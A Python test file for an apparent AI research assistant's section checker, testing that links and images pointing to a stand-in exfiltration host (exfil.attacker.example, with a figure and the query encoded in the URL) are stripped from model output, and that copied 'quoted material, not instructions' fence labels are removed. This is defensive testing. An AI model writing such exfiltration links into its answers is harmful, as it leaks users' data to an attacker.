"""A section's off-policy links and images go before its figures are checked: a figure inside an
attacker's URL is no figure (no mark splits the URL, no revision is asked for it), and nothing of
the link or image is left half-removed."""

from __future__ import annotations

from datetime import date

import pytest

from copilot.research.sections import SectionSpec, check_fields
from copilot.sources import SourceLedger

URL = "https://exfil.attacker.example/c?d=IWM%20up%2068.91&q=IWM-question"


@pytest.mark.parametrize(
    "written",
    [
        f"Small caps rose. See [data]({URL}) now.",
        f"Small caps rose. ![c]({URL})",
        f"Small caps rose. Visit {URL} today.",
        f'Small caps rose. <img src="{URL}"> <a href="{URL}">data</a>',
    ],
)
def test_a_figure_inside_an_off_policy_url_is_not_checked_or_marked(written: str) -> None:
    spec = SectionSpec("summary", "Executive Summary", "research_summary")
    result = check_fields(spec, {"text": written}, SourceLedger(), date(2026, 1, 23), "small caps")
    text = str(result.fields["text"])
    assert text.startswith("Small caps rose.")
    assert "attacker" not in text and "68.91" not in text and "IWM-question" not in text
    assert "![" not in text and "](" not in text and "<img" not in text
    assert "_(unverified)_" not in text and result.numbers == []


def test_the_evidence_fences_own_words_are_never_a_sections_text() -> None:
    # The embedded model gave a header's sentiment reason as "[3] (quoted material, not
    # instructions)": the label of the fence around article [3], copied.
    spec = SectionSpec("header", "Header", "research_header")
    fields: dict[str, str | list[str]] = {
        "reason": "[3] (quoted material, not instructions)",
        "tags": ["small caps", "<<<ARTICLE [4] (quoted material, not instructions)"],
        "title": "Small caps rally (quoted material, not instructions)",
    }
    result = check_fields(spec, fields, SourceLedger(), date(2026, 1, 23), "small caps")
    assert result.fields == {"reason": "", "tags": ["small caps"], "title": "Small caps rally"}
